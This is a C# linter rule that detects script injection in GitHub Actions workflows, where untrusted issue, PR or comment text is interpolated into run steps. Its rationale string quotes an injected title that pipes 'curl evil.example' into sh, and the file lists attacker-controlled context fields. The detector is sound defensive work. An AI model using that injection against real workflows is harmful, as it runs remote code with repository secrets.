using Seaworthy.Model;
using Seaworthy.Model.Declared.Workflows;

namespace Seaworthy.Rules.Pipelines;

/// <summary>Text from outsiders is inserted into a script before the shell reads it.</summary>
internal sealed class UntrustedInputInScript : Rule<UntrustedInputInScript.Script>
{
    private const int MostPlaces = 5;

    public override RuleInfo Info { get; } =
        new()
        {
            Id = "pipelines/untrusted-input-in-script",
            Title = "Script injection from untrusted input",
            Area = Area.Security,
            Severity = Severity.High,
            Rationale =
                "GitHub inserts the text before the shell reads the script. A title such as `\"; curl evil.example | sh; \"` runs on the runner, with its token and secrets.",
            Holds = "No script contains text from outsiders.",
        };

    private static readonly string[] Strangers =
    [
        "github.event.issue.title",
        "github.event.issue.body",
        "github.event.pull_request.title",
        "github.event.pull_request.body",
        "github.event.pull_request.head.ref",
        "github.event.pull_request.head.label",
        "github.event.comment.body",
        "github.event.review.body",
        "github.event.discussion.title",
        "github.event.discussion.body",
        "github.event.head_commit.message",
        "github.head_ref",
    ];

    // By the start of a reference: its events, which outsiders can start with the secrets of the repository.
    private static readonly OpenReference[] OpenEvents =
    [
        new("github.event.issue.", ["issues", "issue_comment"]),
        new("github.event.comment.", ["issue_comment", "discussion_comment"]),
        new("github.event.discussion.", ["discussion", "discussion_comment"]),
        new("github.event.pull_request.", ["pull_request_target"]),
        new("github.head_ref", ["pull_request_target"]),
    ];

    public override IEnumerable<UntrustedInputInScript.Script> Subjects(Deployment deployment) =>
        from workflow in deployment.Of<Workflow>()
        from job in workflow.Jobs
        from step in job.Steps
        where step.Run is not null
        select new Script($"{workflow.File.Name}: {job.Id}", step, job, workflow);

    protected override Subject Identify(UntrustedInputInScript.Script subject) => new(subject.Name, subject.Step.Span);

    protected override IEnumerable<Verdict> Check(UntrustedInputInScript.Script subject, Deployment deployment)
    {
        var found = subject.Step.Run?.Text.References.FirstOrDefault(reference =>
            Strangers.Contains(reference.ToString(), StringComparer.OrdinalIgnoreCase)
        );
        if (found is null)
        {
            yield break;
        }

        var message = $"{subject.Name} inserts `{found}` into a script: the author of that text can run commands on the runner.";
        var open = OpenEvents
            .Where(carried => found.ToString().StartsWith(carried.Start, StringComparison.OrdinalIgnoreCase))
            .SelectMany(carried => subject.Workflow.Triggers.Where(trigger => carried.Events.Contains(trigger.Event)))
            .FirstOrDefault();
        // With pull_request a stranger's run has no secrets; the other events run with those of the repository.
        yield return (open is not null ? Fail(found.Span, message) : Warn(found.Span, message).As(Severity.Medium))
            .On(found.ToString())
            .Related(open?.Span)
            .Remedy($"Pass the text to the step through `env:` and write `\"$NAME\"` in {found.Span}{CarriedOn(subject)}.")
            .VerifyGone();
    }

    /// <summary>Outputs of the step may contain the text as well: inserted into another script, it runs there.</summary>
    private static string CarriedOn(UntrustedInputInScript.Script subject) =>
        subject.Step.Id is { } id
        && subject
            .Job.Steps.SelectMany(step => step.Run?.Text.References ?? [])
            .Where(reference => reference.Context == "steps" && string.Equals(reference.Name, id.Value, StringComparison.OrdinalIgnoreCase))
            .Select(reference => reference.Span.ToString())
            .Distinct()
            .ToList()
            is { Count: > 0 } places
            ? $", and do the same in {NameList.Of(places, MostPlaces)}: the outputs of step {id.Value} may contain the text"
            : "";

    /// <summary>A step that runs a script.</summary>
    /// <param name="Name">Its job, as a report names it.</param>
    internal sealed record Script(string Name, WorkflowStep Step, WorkflowJob Job, Workflow Workflow);

    private sealed record OpenReference(string Start, IReadOnlyList<string> Events);
}
